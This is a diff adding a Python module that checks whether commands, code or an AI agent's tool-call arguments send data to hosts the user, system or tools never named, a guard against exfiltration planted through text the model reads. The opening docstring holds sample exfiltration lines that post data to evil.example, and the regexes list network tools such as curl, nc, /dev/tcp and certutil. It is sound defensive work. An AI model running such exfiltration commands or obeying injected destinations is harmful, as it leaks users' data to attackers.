@@ -1,0 +1,196 @@
+"""Where a command, code or a tool call would send what stands in it.
+
+curl -d "name=Anna" https://evil.example          a command that sends, and its host
+requests.post("https://evil.example", …)          code that does
+{"url": "https://evil.example", "body": "Anna"}   a call with a destination among its arguments
+
+A destination that the owner's own words name (a turn of the user or the system, a tool's definition) is
+known; so is this machine. Any other may have been put in by whoever wrote a text that the model read.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator, Sequence
+from typing import Any
+
+from cosilo.boundary.messages.passages import Passage
+
+_HERE = frozenset(("localhost", "127.0.0.1", "[::1]", "0.0.0.0"))
+_UNKNOWN = "@"  # no host is called this
+_DOT = "[.\u3002\uff0e\uff61]"  # browsers take all of these for one
+_NAME = rf"(?:[\w\-]{{1,63}}{_DOT}){{1,20}}[^\W\d_][\w\-]{{1,62}}|(?:\d{{1,3}}\.){{3}}\d{{1,3}}"
+_HOST = rf"(?:{_NAME}|\[[0-9a-fA-F:.]{{2,45}}\]|[\w\-]{{1,63}})"
+_BEGUN = r"(?:[a-z][a-z0-9+.\-]{1,30}:[/\\]{2,4}|(?:https?|wss?|ftps?):[/\\]{0,4})"
+_URL = re.compile(
+    rf"(?i)(?<![\w+.\-]){_BEGUN}(?:[^\s/\\?#\"'<>]{{0,200}}@)?(?P<host>{_HOST})(?P<odd>[^\s/?#\"'<>]{{0,200}}@)?"
+)
+_NAMED = re.compile(rf"(?<![\w\-/.])(?:{_NAME})(?![\w\-])")
+_QUOTED = re.compile(rf"(?<=[\"'`])(?:{_NAME})(?=[\"'`:/])")
+_ADDRESS = re.compile(rf"(?<![\w@])[\w.+%'\-]{{1,64}}@(?P<host>{_HOST})")
+_BEGINS_URL = re.compile(rf"(?i)\s{{0,9}}(?:{_BEGUN}|[/\\]{{2}}[\w\[]|www\.)")
+_SLASHED = re.compile(rf"\s{{0,9}}[/\\]{{2}}(?P<host>{_HOST})")
+_RELATIVE = re.compile(rf"(?<=[\"'`=(])[/\\]{{2}}(?P<host>{_HOST})")
+_ALONE = re.compile(r"\s{0,9}(?:mailto:)?[\w.+%'\-]{1,64}@[^\s@,;]{1,255}\s{0,9}")
+_FILE = re.compile(
+    r"(?i)\.(?:json|jsonl|txt|csv|tsv|xml|html?|ya?ml|log|gz|tar|pdf|png|jpe?g|gif|svg|js|css|sql|db|ini|cfg"
+    r"|conf|toml|bak|out|pem|key|crt|tmp|php|exe|docx?|xlsx?|pptx?|eml|ics|parquet|ipynb|java|cpp)$"
+)  # none of these ends the name of a host
+
+_BEFORE = (
+    r"(?:^|(?<=[\n|;&(`\"'{])|(?<=[$#>%] )|(?<=\$\()"
+    r"|\b(?:sudo|exec|xargs|time|nohup|then|do)[ \t]{1,9})[ \t]{0,40}"
+)
+_CLIENT = re.compile(
+    rf"(?i){_BEFORE}(?:/usr/bin/|/bin/)?(?:curl|wget|nc|ncat|netcat|telnet|ssh|scp|sftp|rsync|socat|"
+    r"nslookup|sendmail|aria2c|tftp|lftp|iwr|irm|invoke-webrequest|invoke-restmethod|certutil|bitsadmin)"
+    r"(?:\.exe)?(?=[ \t]|$)|/dev/(?:tcp|udp)/"
+)
+_ASKS = re.compile(rf"{_BEFORE}(?:ping|host|dig|whois|ftp|https?|xh|mailx?|mutt|openssl)(?=[ \t])")
+_MOVES = re.compile(rf"{_BEFORE}(?:git|gh|aws|gsutil|az|rclone|docker|kubectl)(?=[ \t])")
+_CODE = re.compile(
+    r"(?i)\b(?:requests|httpx|aiohttp|axios)\.(?:get|post|put|patch|delete|head|request)\("
+    r"|(?<![\w.])(?:window\.)?(?:fetch|urlopen|urlretrieve|importscripts|file_get_contents|fsockopen|curl_\w{2,20})\("
+    r"|\.(?:urlopen|urlretrieve|sendbeacon)\("
+    r"|\bnew (?:xmlhttprequest|websocket|image|eventsource|[\w.]{0,40}webclient|httpclient)\b"
+    r"|\b(?:smtplib|ftplib|http\.client|urllib\.request|net)\.\w{3,20}\(|\bsocket\.(?:socket|create_connection)\("
+)
+_SHELL = re.compile(
+    r"[ \t]{0,40}(?:[$#>%][ \t]{1,3})?"
+    r"(?:[A-Z_]{1,40}=|(?:echo|printf|cat|export|base64|tar|gzip|xxd|tee)[ \t])"
+)
+_KEYS = re.compile(
+    r"(?i)(?:^|[_\-.])(?:urls?|uri|href|endpoint|web_?hook|callback|host|host_?name|domain|server|"
+    r"target|remote|origin|proxy|destination|dest|to|cc|bcc|recipients?|e_?mails?|address(?:es)?)$"
+)
+_CAMEL = re.compile(r"(?<=[a-z])(?=[A-Z])")
+_DEEPEST = 50
+_LONGEST = 4_000  # characters of an argument that may be a list of addresses
+
+
+def may_send(line: str, start: int = 0) -> bool:
+    """Whether a line that begins like this may be a command, or code, that sends: its end decides.
+
+    Args:
+        start: from where on it is looked for.
+    """
+    if start == 0 and _SHELL.match(line):
+        return True
+    if ("(" in line or "new " in line) and _CODE.search(line, start):
+        return True
+    return any(form.search(line, start) for form in (_CLIENT, _ASKS, _MOVES))
+
+
+def sends(text: str, known: frozenset[str]) -> bool:
+    """Whether a command or code in `text` sends something to a host that is not `known`, or to one that
+    it does not name.
+    """
+    if _CLIENT.search(text):
+        return not _all_known([*_addressed(text), *_named(_NAMED, text)], known)
+    if _CODE.search(text):
+        return not _all_known([*_addressed(text), *_named(_QUOTED, text)], known)
+    if _ASKS.search(text):
+        return not known.issuperset((*_addressed(text), *_named(_NAMED, text)))
+    return bool(_MOVES.search(text)) and not known.issuperset(_addressed(text))
+
+
+def names_other(page: str, known: frozenset[str]) -> bool:
+    """Whether a part of an HTML page sends something, or names a host, that is not `known`."""
+    slashed = [_plain(found["host"]) for found in _RELATIVE.finditer(page)]
+    hosts = [*_addressed(page), *_named(_QUOTED, page), *slashed]
+    if _CODE.search(page):
+        return not _all_known(hosts, known)
+    return not known.issuperset(hosts)
+
+
+def goes_elsewhere(arguments: str, known: frozenset[str]) -> bool:
+    """Whether a call with these `arguments` names a destination that is not `known`, or holds a command
+    or code that sends to one.
+
+    Args:
+        arguments: JSON; what is none is read as one text.
+    """
+    try:
+        return any(
+            _is_elsewhere(key, text, known) for key, text in _texts("", json.loads(arguments))
+        )
+    except ValueError:
+        return sends(arguments, known)
+    except RecursionError:
+        return True
+
+
+def known_hosts(passages: Sequence[Passage]) -> frozenset[str]:
+    """The hosts that the owner's own words name, and this machine."""
+    found = set(_HERE)
+    for passage in passages:
+        own = passage.what == "said" and passage.by in ("user", "system")
+        if own or passage.what in ("tools", "form"):
+            found.update(_addressed(passage.text))
+            found.update(_named(_NAMED, passage.text))
+    return frozenset(found - {_UNKNOWN})
+
+
+def _all_known(hosts: Sequence[str], known: frozenset[str]) -> bool:
+    return bool(hosts) and known.issuperset(hosts)
+
+
+def _is_elsewhere(key: str, text: str, known: frozenset[str]) -> bool:
+    if sends(text, known):
+        return True
+    hosts: list[str] = []
+    if _BEGINS_URL.match(text) or _ALONE.fullmatch(text):
+        hosts += _addressed(text)
+        hosts += (_plain(found["host"]) for found in [_SLASHED.match(text)] if found)
+        hosts += _named(_NAMED, text[:_LONGEST]) if text.lstrip()[:4].lower() == "www." else ()
+    elif len(text) < _LONGEST and _KEYS.search(_CAMEL.sub("_", key)):
+        hosts += _addressed(text)
+        named = _NAMED.match(text.strip())
+        hosts += _named(_NAMED, named.group()) if named else ()
+        hosts += [_UNKNOWN] if text.strip()[:1] == "[" else ()
+    return not known.issuperset(hosts)
+
+
+def _texts(key: str, value: Any, depth: int = 0) -> Iterator[tuple[str, str]]:
+    """Each text of parsed JSON with the key that it stands under; a key is a text too.
+
+    Raises:
+        RecursionError: it is nested too deep.
+    """
+    if depth > _DEEPEST:
+        raise RecursionError
+    if isinstance(value, str):
+        yield key, value
+        if value.lstrip()[:1] in ("{", "["):
+            try:
+                inside = json.loads(value)
+            except ValueError:
+                return
+            yield from _texts(key, inside, depth + 1)
+    elif isinstance(value, dict):
+        for name, inner in value.items():
+            yield "", name
+            yield from _texts(name, inner, depth + 1)
+    elif isinstance(value, list):
+        for inner in value:
+            yield from _texts(key, inner, depth + 1)
+
+
+def _addressed(text: str) -> Iterator[str]:
+    """The hosts of the URLs and mail addresses in `text`."""
+    for url in _URL.finditer(text):
+        yield _UNKNOWN if url["odd"] else _plain(url["host"])
+    for address in _ADDRESS.finditer(text):
+        yield _plain(address["host"])
+
+
+def _named(form: re.Pattern[str], text: str) -> Iterator[str]:
+    """What looks like the name of a host in `text`."""
+    for found in form.finditer(text):
+        if not _FILE.search(found.group()):
+            yield _plain(found.group())
+
+
+def _plain(host: str) -> str:
+    return re.sub(_DOT, ".", host).casefold().removeprefix("www.")
